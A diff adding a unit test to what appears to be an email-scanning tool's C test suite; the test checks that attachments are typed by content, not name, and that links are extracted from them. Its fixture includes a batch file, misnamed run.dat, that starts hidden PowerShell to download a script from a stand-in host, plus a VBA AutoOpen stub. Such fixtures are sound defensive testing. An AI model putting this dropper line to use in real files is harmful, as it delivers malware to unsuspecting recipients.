@@ -14,6 +14,7 @@
 #include "html/extract.h"
 #include "ja_text.h"
 #include "mime/message.h"
+#include "objects/filetype.h"
 #include "objects/object.h"
 #include "objects/password.h"
 #include "ppap/discover.h"
@@ -392,6 +393,61 @@ test_text_attachment(void **state)
 }
 
 /*
+ * Objects are read as text by their true type, whatever their name and
+ * declared type: a batch script (named .dat, application/octet-stream) and
+ * plain text are; VBA source is not (vba.c records its URLs), nor is a
+ * binary attachment.
+ */
+static void
+test_script_attachment(void **state)
+{
+	(void)state;
+	static const char bat[] = "@echo off\r\nstart /min powershell -w hidden -c "
+	    "\"iwr https://bat.example/p.ps1 -OutFile p.ps1\"\r\n";
+	static const char vba[] = "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n"
+	    "  x = \"https://vba.example/x\"\r\nEnd Sub\r\n";
+	static const char txt[] = "see http://txt.example/a\n";
+	static const char bin[] = "MZ\x90\x00\x03\x00\x00\x00 http://bin.example/ \xff\xfe";
+	const char *data[] = { bat, vba, txt, bin };
+	size_t lens[] = { sizeof bat - 1, sizeof vba - 1, sizeof txt - 1, sizeof bin - 1 };
+	const char *names[] = { "run.dat", "Module1.bas", "notes.txt", "x.bin" };
+	GString *s = g_string_new("From: a@example.com\r\nSubject: x\r\n"
+	    "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=B\r\n\r\n"
+	    "--B\r\nContent-Type: text/plain\r\n\r\nbody\r\n");
+	for (size_t i = 0; i < G_N_ELEMENTS(data); i++) {
+		char *b64 = g_base64_encode((const guchar *)data[i], lens[i]);
+		g_string_append_printf(s, "--B\r\nContent-Type: application/octet-stream\r\n"
+		    "Content-Disposition: attachment; filename=%s\r\n"
+		    "Content-Transfer-Encoding: base64\r\n\r\n%s\r\n", names[i], b64);
+		g_free(b64);
+	}
+	g_string_append(s, "--B--\r\n");
+	struct mime_message *m = parse(s->str);
+	struct obj_limits ol = olimits();
+	struct obj_tree *tree = obj_tree_build(m, &ol);
+	struct content *c = content_new(m, NULL);
+
+	content_add_objects(c, tree);
+	assert_int_equal(c->texts->len, 3);
+	const struct content_text *t = c->texts->pdata[1];
+	assert_string_equal(t->source, "run.dat");
+	assert_non_null(t->obj);
+	assert_string_equal(t->obj->type->name, "bat");
+	assert_int_equal(t->kind, CONTENT_PLAIN);
+	assert_int_equal(t->origin, CONTENT_ATTACHMENT);
+	assert_string_equal(((const struct content_text *)c->texts->pdata[2])->source, "notes.txt");
+	const GPtrArray *l = content_links(c);
+	assert_int_equal(l->len, 2);
+	assert_string_equal(link_at(l, 0)->url, "https://bat.example/p.ps1");
+	assert_ptr_equal(link_at(l, 0)->in, t);
+	assert_string_equal(link_at(l, 1)->url, "http://txt.example/a");
+	content_free(c);
+	obj_tree_free(tree);
+	mime_message_free(m);
+	g_string_free(s, TRUE);
+}
+
+/*
  * content_norm() keeps a line that content_nfkc_inert() passes as it is,
  * without GLib's normalisation: for every code point the quick check
  * passes, alone and after a letter, GLib's NFKC must give it back
@@ -451,6 +507,7 @@ main(void)
 		cmocka_unit_test(test_attachment_and_parse_once),
 		cmocka_unit_test(test_caps),
 		cmocka_unit_test(test_text_attachment),
+		cmocka_unit_test(test_script_attachment),
 		cmocka_unit_test(test_nfkc_inert),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
